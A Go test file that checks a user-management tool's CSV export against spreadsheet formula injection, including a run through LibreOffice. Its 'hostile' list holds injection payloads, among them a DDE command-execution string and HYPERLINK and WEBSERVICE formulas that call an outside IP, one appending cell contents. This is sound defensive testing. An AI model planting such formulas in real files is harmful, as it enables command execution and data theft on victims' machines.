// Package spreadsheet opens an export of users with hostile names as spreadsheets do. It has only tests. SPREADSHEET=long
// opens it in LibreOffice.
package spreadsheet

import (
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/jotgate/jotgate/admin"
	"github.com/jotgate/jotgate/jotgatetest"
	"github.com/jotgate/jotgate/record"
)

// hostile are names that programs have taken for formulas, or that break a cell.
var hostile = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(1;2)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", `"=1"`, `'=1`, "＝1", "|dir", "%0A=1", "a,=1", "a;=1",
	`a";=1`, "a\t=1", "a\n=1", "a\r\n=1", `a"` + "\n" + `=1`, `=HYPERLINK("http://192.0.2.7/"&A1,"x")`, `=WEBSERVICE("http://192.0.2.7/")`, "1;=1;+1", ";=1", ";;@x", `";=1`, "2026-01-31", "1e9", "TRUE",
}

// export writes the file as the administration does.
func export(t *testing.T) string {
	t.Helper()
	gate := jotgatetest.New(t)
	for i, name := range hostile {
		gate.User(fmt.Sprintf("user%d", i), func(a *record.Account) { a.FirstName, a.LastName = name, name })
	}
	a, err := admin.NewActions(gate.Gate, admin.Options{})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "users.csv")
	file, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Export(t.Context(), a.Operator(), admin.Fields{"format": {"csv"}}, file); err != nil {
		t.Fatal(err)
	}
	if err := file.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// isFormula reports whether programs take the text of a cell for a formula.
func isFormula(text string) bool {
	text = strings.TrimLeft(text, " \u00a0\ufeff")
	return text != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(text)[0])
}

// No cell begins like a formula: as the standard reads the file, and as programs do that also split at semicolons and do
// not know quotes in the middle of a line.
func TestNoCellIsAFormula(t *testing.T) {
	text, err := os.ReadFile(export(t))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(text))).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if isFormula(cell) {
				t.Errorf("%q", cell)
			}
		}
	}
	for _, line := range strings.Split(string(text), "\n") {
		for _, cell := range strings.FieldsFunc(line, func(r rune) bool { return r == ';' || r == '\t' }) {
			if isFormula(strings.TrimLeft(cell, `"`)) {
				t.Errorf("split at semicolons: %q", cell)
			}
		}
	}
}

// LibreOffice reads every name as text, split at commas or also at semicolons, and told to evaluate formulas.
func TestLibreOffice(t *testing.T) {
	if os.Getenv("SPREADSHEET") != "long" {
		t.Log("make spreadsheet opens the file in LibreOffice; TestNoCellIsAFormula reads it as strictly")
		return
	}
	path := export(t)
	for name, separators := range map[string]string{"commas": "44", "commas and semicolons": "44/59"} {
		t.Run(name, func(t *testing.T) {
			folder := t.TempDir()
			// Separators, quote, UTF-8, first line, columns, language, quoted as text, special numbers, …, evaluate formulas.
			filter := "CSV:" + separators + ",34,76,1,,0,false,false,false,false,false,-1,true"
			cmd := exec.Command("soffice", "-env:UserInstallation=file://"+folder+"/profile", "--headless", "--infilter="+filter, "--convert-to", "fods", "--outdir", folder, path)
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("soffice (apt-get install --no-install-recommends libreoffice-calc-nogui): %v\n%s", err, out)
			}
			cells := read(t, filepath.Join(folder, "users.fods"))
			if len(cells) < 2*len(hostile) {
				t.Fatalf("only %d cells", len(cells))
			}
			plain := 0
			for _, c := range cells {
				if c.Formula != "" {
					t.Errorf("the cell %q is the formula %s", c.text(), c.Formula)
				}
				if strings.Contains(c.text(), "=1") && c.Type != "string" {
					t.Errorf("the cell %q is of the type %s", c.text(), c.Type)
				}
				if slices.Contains([]string{"'=1+1", "'+1", "'@SUM(1"}, strings.SplitN(c.text(), ";", 2)[0]) {
					plain++
				}
			}
			if plain < 3 { // equal neighbours are written once
				t.Errorf("only %d of the names are found as text", plain)
			}
		})
	}
}

// cell is a cell of LibreOffice's flat XML.
type cell struct {
	Formula string   `xml:"urn:oasis:names:tc:opendocument:xmlns:table:1.0 formula,attr"`
	Type    string   `xml:"urn:oasis:names:tc:opendocument:xmlns:office:1.0 value-type,attr"`
	Lines   []string `xml:"urn:oasis:names:tc:opendocument:xmlns:text:1.0 p"`
}

func (c cell) text() string { return strings.Join(c.Lines, "\n") }

func read(t *testing.T, path string) (list []cell) {
	t.Helper()
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	for d := xml.NewDecoder(file); ; {
		token, err := d.Token()
		if token == nil {
			return list
		}
		if err != nil {
			t.Fatal(err)
		}
		if start, ok := token.(xml.StartElement); ok && start.Name.Local == "table-cell" {
			var c cell
			if err := d.DecodeElement(&c, &start); err != nil {
				t.Fatal(err)
			}
			list = append(list, c)
		}
	}
}
